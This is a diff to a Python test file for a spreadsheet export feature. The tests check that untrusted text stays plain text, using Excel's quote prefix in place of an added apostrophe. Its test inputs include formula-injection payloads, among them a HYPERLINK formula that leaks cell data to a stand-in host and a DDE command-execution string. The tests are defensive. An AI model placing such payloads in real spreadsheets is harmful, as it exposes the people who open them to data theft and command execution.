@@ -14,7 +14,6 @@ import pytest
 from openpyxl.worksheet.worksheet import Worksheet
 
 from torq_nb.export import export, tabular
-from torq_nb.export.tabular import FORMULA_PREFIXES
 from torq_nb.research.batch import BatchResults, _Outcome
 
 HOSTILE = ['=HYPERLINK("http://evil.test/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(A1)", "-3", "@cmd",
@@ -33,13 +32,15 @@ def column(ws: Worksheet, header: str) -> list[object]:
     return list(next(ws.iter_cols(min_col=names.index(header) + 1, max_col=names.index(header) + 1, min_row=2)))
 
 
-def test_hostile_text_is_neutralised_text_never_a_formula_or_link(tmp_path: Path) -> None:
+def test_hostile_text_reads_as_written_and_stays_text_never_a_formula_or_link(tmp_path: Path) -> None:
     rows = [factory.row(i + 1, title=text, snippet=text) for i, text in enumerate(HOSTILE)]
     path = export(factory.results(rows=rows), tmp_path / "r.xlsx")
     ws = sheet(path)
     for text, cell in zip(HOSTILE, column(ws, "title"), strict=True):
         assert cell.data_type == "s" and cell.hyperlink is None  # type: ignore[attr-defined]
-        assert cell.value == ("'" + text if text.startswith(FORMULA_PREFIXES) else text)  # type: ignore[attr-defined]
+        assert cell.value == text  # type: ignore[attr-defined]  # no "'" added: the text as the page had it
+        assert cell.quotePrefix  # type: ignore[attr-defined]  # and Excel keeps it text when it is edited
+    assert book_run_cell_quoted(path)
     with zipfile.ZipFile(path) as zf:
         xml = zf.read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet
@@ -48,7 +49,12 @@ def test_hostile_text_is_neutralised_text_never_a_formula_or_link(tmp_path: Path
 def test_opt_out_keeps_text_verbatim_and_still_not_a_formula(tmp_path: Path) -> None:
     path = export(factory.results(rows=[factory.row(1, title=HOSTILE[0])]), tmp_path / "raw.xlsx", neutralize=False)
     cell = column(sheet(path), "title")[0]
-    assert cell.value == HOSTILE[0] and cell.data_type == "s"  # type: ignore[attr-defined]
+    assert cell.value == HOSTILE[0] and cell.data_type == "s" and not cell.quotePrefix  # type: ignore[attr-defined]
+
+
+def book_run_cell_quoted(path: Path) -> bool:
+    """Whether the run sheet's values (the summary: page text) carry the quote prefix too."""
+    return all(cell.quotePrefix for (cell,) in sheet(path, "run").iter_rows(min_row=2, min_col=2, max_col=2))
 
 
 def test_a_column_of_http_urls_is_links_with_every_value_whole(tmp_path: Path) -> None:
@@ -66,7 +72,7 @@ def test_a_column_with_any_other_address_is_plain_text(tmp_path: Path, other: st
     urls = ["https://example.org/a", other]
     path = export(factory.results(rows=[factory.row(i + 1, url=u) for i, u in enumerate(urls)]), tmp_path / "u.xlsx")
     cells = column(sheet(path), "url")
-    assert [c.value for c in cells] == [urls[0], "'" + other if other.startswith("=") else other]  # type: ignore[attr-defined]
+    assert [c.value for c in cells] == urls  # type: ignore[attr-defined]
     assert [c.hyperlink for c in cells] == [None, None]  # type: ignore[attr-defined]
     with zipfile.ZipFile(path) as zf:
         assert not any("rels" in name and "worksheets" in name for name in zf.namelist())  # no link target at all
@@ -186,7 +192,7 @@ def test_any_frame_keeps_every_value_a_sheet_can_hold(tmp_path: Path) -> None:
     assert values["score"] == [None, "INF", "-INF"]
     assert values["tags"] == ['["a", "b"]', "[]", None]
     assert values["where"] == ['{"city": "Zürich", "n": 1}', None, '{"city": "=cmd", "n": 2}']  # starts with "{": not a formula
-    assert values["kind"] == ["x", "'=y", None]
+    assert values["kind"] == ["x", "=y", None]
     assert values["at"] == [datetime(2026, 1, 1, 12)] * 3  # 13:00 in Paris is 12:00 UTC
     assert values["nothing"] == [None] * 3
     with pytest.raises(ValueError, match=r"object column\(s\) thing; convert them to text or drop them"):
